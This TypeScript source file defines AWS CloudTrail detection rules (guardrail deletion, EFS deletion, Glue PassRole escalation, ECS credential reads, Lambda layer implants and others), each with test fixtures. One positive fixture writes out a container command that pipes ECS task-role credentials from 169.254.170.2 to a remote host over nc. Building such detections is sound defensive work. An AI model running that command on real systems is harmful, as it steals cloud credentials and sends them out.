import { containsAny } from '../http';
import { MITRE } from '../mitre';
import type { Detection } from '../types';
import { apiCallDetection, hasValue } from './define';
import { cloudTrailRecord } from './records';
import { MORE_MITRE } from './techniques';

/*
 * Individual services whose misuse SigmaHQ's CloudTrail rules describe: AI guardrails, file
 * systems, clusters, development endpoints, containers reading their credentials, mail
 * identities, load balancer firewalls, Lambda layers.
 */

/** How a container command reaches the ECS credential endpoint (the variable, or its fixed address). */
const CREDENTIAL_ENDPOINT = ['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', '169.254.170.2'];

const taskDefinition = (command: string[]) =>
  cloudTrailRecord('ecs.amazonaws.com', 'RegisterTaskDefinition', {
    requestParameters: {
      family: 'web',
      containerDefinitions: [{ name: 'web', image: 'public.ecr.aws/docker/library/alpine:3', command }],
    },
  });

const layers = (names: string[] | undefined) => ({
  requestParameters: {
    functionName: 'orders',
    ...(names ? { layers: names } : { timeout: 30 }),
  },
});

export const serviceDetections: readonly Detection[] = [
  apiCallDetection({
    id: 'bedrock-guardrail-removed',
    title: 'Bedrock guardrail deleted or updated',
    description:
      'An Amazon Bedrock guardrail was deleted or changed: the content and safety filters in front of models may no longer apply, and models can be made to answer what they should not.',
    severity: 3,
    mitre: MITRE.impairDefenses,
    eventSource: 'bedrock.amazonaws.com',
    eventNames: ['DeleteGuardrail', 'UpdateGuardrail'],
    benignEventName: 'GetGuardrail',
    positiveOverrides: { requestParameters: { guardrailIdentifier: 'gr-0a1b2c3d4e5f' } },
  }),
  apiCallDetection({
    id: 'efs-file-system-deleted',
    title: 'EFS file system or mount target deleted',
    description:
      'An EFS file system or one of its mount targets was deleted: the files are gone, or every instance mounting through that target loses them (a mount target goes first, as a file system in use cannot be deleted).',
    severity: 3,
    mitre: MITRE.dataDestruction,
    eventSource: 'elasticfilesystem.amazonaws.com',
    eventNames: ['DeleteFileSystem', 'DeleteMountTarget'],
    benignEventName: 'DescribeFileSystems',
  }),
  apiCallDetection({
    id: 'eks-cluster-created-or-deleted',
    title: 'EKS cluster created or deleted',
    description:
      'A Kubernetes cluster was created (compute an attacker controls, or a shadow cluster) or deleted (the workloads on it are gone).',
    severity: 4,
    mitre: MITRE.modifyCloudCompute,
    eventSource: 'eks.amazonaws.com',
    eventNames: ['CreateCluster', 'DeleteCluster'],
    benignEventName: 'DescribeCluster',
    positiveOverrides: { requestParameters: { name: 'shadow' } },
  }),
  apiCallDetection({
    id: 'glue-dev-endpoint-changed',
    title: 'Glue development endpoint created, updated or deleted',
    description:
      'A Glue development endpoint was created or changed: it runs with a role passed to it and accepts an SSH key, a known way to obtain that role\u2019s rights (iam:PassRole escalation).',
    severity: 3,
    mitre: MORE_MITRE.abuseElevationControl,
    eventSource: 'glue.amazonaws.com',
    eventNames: ['CreateDevEndpoint', 'UpdateDevEndpoint', 'DeleteDevEndpoint'],
    benignEventName: 'GetDevEndpoints',
    positiveOverrides: {
      requestParameters: { endpointName: 'dev', roleArn: 'arn:aws:iam::333333333333:role/admin' },
    },
  }),
  apiCallDetection({
    id: 'ecs-task-reads-container-credentials',
    title: 'ECS task definition reads the container credential endpoint',
    description:
      "A task definition was registered, or a task run, whose command queries the ECS credential endpoint ($AWS_CONTAINER_CREDENTIALS_RELATIVE_URI, 169.254.170.2): a container built to hand out its task role's credentials.",
    severity: 2,
    mitre: MORE_MITRE.instanceMetadataApi,
    eventSource: 'ecs.amazonaws.com',
    eventNames: ['RegisterTaskDefinition', 'RunTask'],
    benignEventName: 'DescribeTaskDefinition',
    extraFilters: [
      containsAny(
        [
          'requestParameters.containerDefinitions.command',
          'requestParameters.containerDefinitions.entryPoint',
          'requestParameters.overrides.containerOverrides.command',
        ],
        CREDENTIAL_ENDPOINT,
        { caseSensitive: true },
      ),
    ],
    positives: [
      taskDefinition([
        'sh',
        '-c',
        'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 203.0.113.10 80',
      ]),
      cloudTrailRecord('ecs.amazonaws.com', 'RunTask', {
        requestParameters: {
          cluster: 'prod',
          taskDefinition: 'web:3',
          overrides: {
            containerOverrides: [
              { name: 'web', command: ['sh', '-c', 'wget -qO- http://169.254.170.2/v2/credentials/x'] },
            ],
          },
        },
      }),
    ],
    extraNegatives: [taskDefinition(['nginx', '-g', 'daemon off;'])],
  }),
  apiCallDetection({
    id: 'ses-identity-deleted',
    title: 'SES sending identity deleted',
    description:
      'A verified SES e-mail address or domain was deleted: after using the account to send mail (phishing, spam), an intruder removes the identity that sent it.',
    severity: 4,
    mitre: MITRE.indicatorRemoval,
    eventSource: 'ses.amazonaws.com',
    eventNames: ['DeleteIdentity', 'DeleteEmailIdentity'],
    benignEventName: 'ListIdentities',
    positiveOverrides: { requestParameters: { identity: 'billing@example.com' } },
  }),
  apiCallDetection({
    id: 'elb-security-groups-changed',
    title: 'Load balancer security groups changed',
    description:
      "The security groups of a load balancer were replaced (ApplySecurityGroupsToLoadBalancer, SetSecurityGroups): what may reach it, and what it may reach, changed outside the security groups' own change records.",
    severity: 4,
    mitre: MITRE.disableCloudFirewall,
    eventSource: 'elasticloadbalancing.amazonaws.com',
    eventNames: ['ApplySecurityGroupsToLoadBalancer', 'SetSecurityGroups'],
    benignEventName: 'DescribeLoadBalancers',
    excludeServiceCallers: true,
    positiveOverrides: { requestParameters: { securityGroups: ['sg-0a1b2c3d4e5f60718'] } },
  }),
  apiCallDetection({
    id: 'lambda-layer-attached',
    title: 'Lambda layer attached to a function',
    description:
      "A function's configuration now names layers: code from a layer runs inside the function with its role, an implant that a review of the function's own code does not see.",
    severity: 3,
    mitre: MORE_MITRE.implantInternalImage,
    eventSource: 'lambda.amazonaws.com',
    eventNames: ['UpdateFunctionConfiguration'],
    versionedNames: ['UpdateFunctionConfiguration20150331v2'],
    benignEventName: 'GetFunctionConfiguration20150331v2',
    extraFilters: [hasValue('requestParameters.layers')],
    positiveOverrides: layers(['arn:aws:lambda:eu-west-1:999988887777:layer:helper:3']),
    extraNegatives: [
      cloudTrailRecord('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', layers(undefined)),
    ],
  }),
];
